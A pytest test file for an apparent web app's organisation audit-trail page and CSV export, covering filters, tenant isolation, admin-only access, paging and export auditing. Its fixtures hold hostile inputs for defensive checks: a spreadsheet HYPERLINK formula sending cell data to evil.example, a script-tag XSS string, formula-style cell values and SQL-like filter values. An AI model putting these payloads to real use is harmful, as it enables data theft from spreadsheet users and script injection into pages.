"""/organisation/audit: an organisation's administrators read and export its audit trail,
filtered by person, record, action and period; never another organisation's entries."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import datetime, timezone
from types import SimpleNamespace

import pytest
import sqlalchemy as sa
from engage.audit.models import AuditEvent
from engage.common.labels import LABELS
from engage.db import Base
from engage.organisations.models import OrgRole
from engage.tenancy import system_scope

from tests import factories as f
from tests.conftest import login_as

UTC = timezone.utc


@dataclass
class World:
    # (id, slug, name) of each: the rows themselves are the session's, expired at commit.
    a: SimpleNamespace
    b: SimpleNamespace
    a_admin: SimpleNamespace
    a_member: SimpleNamespace
    a_viewer: SimpleNamespace
    hostile: SimpleNamespace  # a member of A whose name a spreadsheet would run as a formula
    b_admin: SimpleNamespace
    engagement_id: int  # A leads it
    b_engagement_id: int  # B's own: A may not see it
    events: dict[str, int]


def _event(org, actor, action, at, **kw) -> AuditEvent:
    return f._add(AuditEvent(organisation_id=org.id, actor_id=actor.id if actor else None,
                             action=action, at=at, context=f"org:{org.id}", **kw))


@pytest.fixture
def world(db_session) -> World:
    with system_scope("test", db_session):
        a, b = f.organisation("alpha"), f.organisation("beta")
        a_admin = f.user(a, role=OrgRole.ADMIN, email="ada@alpha.example")
        a_admin.name = "Ada Admin"
        a_member = f.user(a, email="mo@alpha.example")
        a_member.name = "Mo Member"
        a_viewer = f.user(a, role=OrgRole.VIEWER)
        hostile = f.user(a, email="eve@alpha.example")
        hostile.name = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
        b_admin = f.user(b, role=OrgRole.ADMIN, email="bea@beta.example")
        b_admin.name = "Bea Beta"
        company = f.company("Threadline N.V.")
        engagement = f.engagement(company, a)
        b_engagement = f.engagement(f.company("Hidden Mining plc"), b)
        events = {
            "milestone": _event(a, a_member, "milestone.update",
                                datetime(2026, 3, 1, 10, 0, tzinfo=UTC), object_type="milestone",
                                object_id="17", before={"due_on": "2026-03-01"},
                                after={"due_on": "2026-04-01",
                                       "engagement_id": engagement.id}).id,
            "engagement": _event(a, a_admin, "engagement.create",
                                 datetime(2026, 3, 5, 9, 0, tzinfo=UTC), object_type="engagement",
                                 object_id=str(engagement.id),
                                 after={"title": "<script>alert(1)</script>"}).id,
            # 23:30 UTC on 9 March is 00:30 on 10 March in Amsterdam, the platform's zone.
            "login": _event(a, a_member, "auth.login", datetime(2026, 3, 9, 23, 30, tzinfo=UTC),
                            object_type="user_account", object_id=str(a_member.id)).id,
            "hostile": _event(a, hostile, "note.delete", datetime(2026, 3, 12, 8, 0, tzinfo=UTC),
                              object_type="note", object_id="=1+1",
                              before={"body": "@SUM(1,2)"}).id,
            "by_engage": _event(a, None, "sso.configured",
                                datetime(2026, 2, 20, 8, 0, tzinfo=UTC), object_type="sso_config",
                                object_id="3").id,
            # B's entries: on B's own engagement, and one naming A's engagement's number.
            "b_private": _event(b, b_admin, "engagement.update",
                                datetime(2026, 3, 6, 9, 0, tzinfo=UTC), object_type="engagement",
                                object_id=str(b_engagement.id),
                                after={"title": "B-SECRET-TITLE"}).id,
            "b_guess": _event(b, b_admin, "milestone.update",
                              datetime(2026, 3, 1, 11, 0, tzinfo=UTC), object_type="milestone",
                              object_id="17", after={"due_on": "B-SECRET-DATE"}).id,
        }
        plain = lambda o: SimpleNamespace(id=o.id, slug=getattr(o, "slug", None),
                                          name=o.name)
        made = World(*map(plain, (a, b, a_admin, a_member, a_viewer, hostile, b_admin)),
                     engagement.id, b_engagement.id, events)
        db_session.commit()
    return made


def _entries(html: str) -> set[int]:
    import re

    return {int(n) for n in re.findall(r'data-entry="(\d+)"', html)}


def _ids(world: World, *names: str) -> set[int]:
    return {world.events[name] for name in names}


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "text/csv"
    text = response.get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_the_admin_reads_the_organisations_trail_newest_first(client, world):
    login_as(client, world.a_admin, world.a)
    page = client.get("/organisation/audit")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    shown = _entries(html)
    assert _ids(world, "milestone", "engagement", "login", "hostile", "by_engage") <= shown
    assert not shown & _ids(world, "b_private", "b_guess")
    assert "B-SECRET" not in html and "Bea Beta" not in html
    order = [html.index(f'data-entry="{world.events[n]}"')
             for n in ("hostile", "login", "engagement", "milestone", "by_engage")]
    assert order == sorted(order)
    # Words, not codes; the person; the time for machines; the changes, escaped.
    assert "Milestone changed" in html and "Signed in" in html and "Engagement created" in html
    table = html[html.index('<table class="audit-trail"'):]
    assert "milestone.update" not in table and "auth.login" not in table
    assert "Mo Member" in html and "mo@alpha.example" in html
    assert 'datetime="2026-03-09T23:30:00Z"' in html
    assert "2026-03-01" in html and "2026-04-01" in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "<script>alert(1)" not in html
    assert "Engage itself (no person)" in html
    # The engagement A sees is linked, from its own entry and from its milestone's.
    assert html.count(f'href="/engagements/{world.engagement_id}"') >= 2


def test_the_trail_is_reached_from_the_organisation_tabs(client, world):
    login_as(client, world.a_admin, world.a)
    for path in ("/organisation/users", "/organisation/sso", "/organisation/tokens"):
        assert 'href="/organisation/audit"' in client.get(path).get_data(as_text=True), path
    login_as(client, world.a_member, world.a)
    assert 'href="/organisation/audit"' not in client.get("/organisation/users").get_data(
        as_text=True)


@pytest.mark.parametrize("query, expected", [
    ("actor=mo+member", {"milestone", "login"}),
    ("actor=ADA%40alpha", {"engagement"}),
    ("actor=%25", set()),  # a LIKE wildcard is a character like any other
    ("object_type=milestone&object_id=17", {"milestone"}),
    ("object_type=engagement", {"engagement"}),
    ("action=update", {"milestone"}),
    ("action=delete", {"hostile"}),
    ("action=auth.login", {"login"}),
    ("since=2026-03-05&until=2026-03-09", {"engagement"}),
    ("since=2026-03-10", {"login", "hostile"}),  # 23:30 UTC on the 9th is the 10th here
    ("until=2026-03-01", {"milestone", "by_engage"}),
    ("actor=member&since=2026-03-02&until=2026-03-31", {"login"}),
])
def test_filters(client, world, query, expected):
    login_as(client, world.a_admin, world.a)
    page = client.get(f"/organisation/audit?{query}")
    assert page.status_code == 200, page.get_data(as_text=True)[:300]
    html = page.get_data(as_text=True)
    shown = _entries(html)
    assert shown & set(world.events.values()) == _ids(world, *expected), query
    # The filters stay in the form and in the export's link.
    if expected:
        assert "/organisation/audit/export.csv?" in html
    rows = _csv(client.get(f"/organisation/audit/export.csv?{query}"))
    assert len(rows) - 1 == len(expected), (query, rows)


def test_no_other_organisations_entries_whatever_the_filters(client, world):
    """B's entries name the same record number as A's, and B's own engagement: A's admin
    guessing them through the filters gets A's entries only, on the page and in the CSV."""
    login_as(client, world.a_admin, world.a)
    guesses = ["", "object_type=milestone&object_id=17",
               f"object_type=engagement&object_id={world.b_engagement_id}",
               "actor=bea%40beta.example", "actor=Bea", "action=update",
               "since=2026-03-01&until=2026-03-06"]
    for query in guesses:
        html = client.get(f"/organisation/audit?{query}").get_data(as_text=True)
        assert not _entries(html) & _ids(world, "b_private", "b_guess"), query
        assert "B-SECRET" not in html, query
        body = client.get(f"/organisation/audit/export.csv?{query}").get_data(as_text=True)
        assert "B-SECRET" not in body and "Bea Beta" not in body, query
    # The other way round: B's admin sees B's entries, none of A's, and no link to A's
    # engagement.
    login_as(client, world.b_admin, world.b)
    html = client.get("/organisation/audit").get_data(as_text=True)
    assert _entries(html) & set(world.events.values()) == _ids(world, "b_private", "b_guess")
    assert f'href="/engagements/{world.engagement_id}"' not in html


def test_a_record_the_organisation_may_not_see_is_not_linked(client, db_session, world):
    """An entry of A's about B's engagement (say A's invitation to it was withdrawn) names
    the record but does not link to a page A cannot open."""
    with system_scope("test", db_session):
        entry = _event(world.a, world.a_admin, "engagement_invitation.declined",
                       datetime(2026, 3, 20, tzinfo=UTC), object_type="engagement",
                       object_id=str(world.b_engagement_id)).id
        db_session.commit()
    login_as(client, world.a_admin, world.a)
    html = client.get("/organisation/audit").get_data(as_text=True)
    assert entry in _entries(html)
    assert f'href="/engagements/{world.b_engagement_id}"' not in html
    assert f"Engagement {world.b_engagement_id}" in html


def test_the_csv_neutralises_formulas_and_is_audited(client, db_session, world):
    login_as(client, world.a_admin, world.a)
    response = client.get("/organisation/audit/export.csv?action=delete")
    assert "attachment" in response.headers["Content-Disposition"]
    header, *rows = _csv(response)
    assert header[:4] == ["When (UTC)", "Person", "E-mail", "Action"]
    assert len(rows) == 1
    row = dict(zip(header, rows[0]))
    assert row["Person"] == "'" + world.hostile.name
    assert row["Record"] == "'=1+1"
    assert row["Action"] == "Private note deleted" and row["Action code"] == "note.delete"
    assert row["When (UTC)"] == "2026-03-12 08:00:00"
    assert '"body": "@SUM(1,2)"' in row["Before"]
    for cell in rows[0]:
        assert not cell[:1] in {"=", "+", "-", "@"}, cell
    # Taking the trail out is itself recorded, with the filters.
    with system_scope("test", db_session):
        exported = db_session.scalars(sa.select(AuditEvent).where(
            AuditEvent.action == "audit.export")).all()
    assert len(exported) == 1
    assert exported[0].organisation_id == world.a.id
    assert exported[0].actor_id == world.a_admin.id
    assert exported[0].after == {"entries": 1, "action": "delete"}


@pytest.mark.parametrize("query, field", [
    ("since=2026-02-30", "since"),
    ("until=yesterday", "until"),
    ("since=2026-03-10&until=2026-03-01", "until"),
    ("since=0001-01-01", "since"),
    ("action=drop+table", "action"),
    ("object_type=audit_event%27", "object_type"),
    ("object_id=17", "object_id"),
    ("object_type=milestone&object_id=" + "9" * 51, "object_id"),
    ("actor=" + "x" * 201, "actor"),
])
def test_bad_filters_are_400_with_a_message_by_the_field(client, world, query, field):
    login_as(client, world.a_admin, world.a)
    for path in ("/organisation/audit", "/organisation/audit/export.csv"):
        response = client.get(f"{path}?{query}")
        html = response.get_data(as_text=True)
        assert response.status_code == 400, (path, query)
        assert f'id="{field}-error"' in html, (path, query)
        assert "data-entry=" not in html


def test_a_bad_page_number_is_400(client, world):
    login_as(client, world.a_admin, world.a)
    assert client.get("/organisation/audit?page=abc").status_code == 400


def test_an_export_larger_than_allowed_asks_for_narrower_filters(app, client, world,
                                                                  monkeypatch):
    monkeypatch.setitem(app.config, "ENGAGE_AUDIT_EXPORT_MAX", 2)
    login_as(client, world.a_admin, world.a)
    response = client.get("/organisation/audit/export.csv")
    assert response.status_code == 400
    assert "one export holds at most 2" in response.get_data(as_text=True)
    assert len(_csv(client.get("/organisation/audit/export.csv?action=update"))) == 2


def test_the_trail_pages_through_keeping_the_filters(app, client, db_session, world,
                                                      monkeypatch):
    monkeypatch.setitem(app.config, "ENGAGE_PAGE_SIZE", 2)
    login_as(client, world.a_admin, world.a)
    html = client.get("/organisation/audit?actor=alpha.example").get_data(as_text=True)
    assert len(_entries(html)) == 2
    assert 'href="/organisation/audit?page=2&amp;actor=alpha.example"' in html
    second = client.get("/organisation/audit?page=2&actor=alpha.example").get_data(as_text=True)
    assert _entries(second) and not _entries(second) & _entries(html)


@pytest.mark.parametrize("who", ["a_member", "a_viewer"])
def test_only_administrators_read_the_trail(client, world, who):
    login_as(client, getattr(world, who), world.a)
    assert client.get("/organisation/audit").status_code == 403
    assert client.get("/organisation/audit/export.csv").status_code == 403


def test_signed_out_visitors_are_sent_to_sign_in(client, world):
    response = client.get("/organisation/audit")
    assert response.status_code in (302, 303, 401)
    assert b"data-entry" not in response.get_data()


def test_every_table_and_recorded_event_has_words():
    """A new table (so a new kind of record in the trail) needs its words in the trail."""
    assert set(Base.metadata.tables) - {"alembic_version"} <= set(LABELS["object_type"])
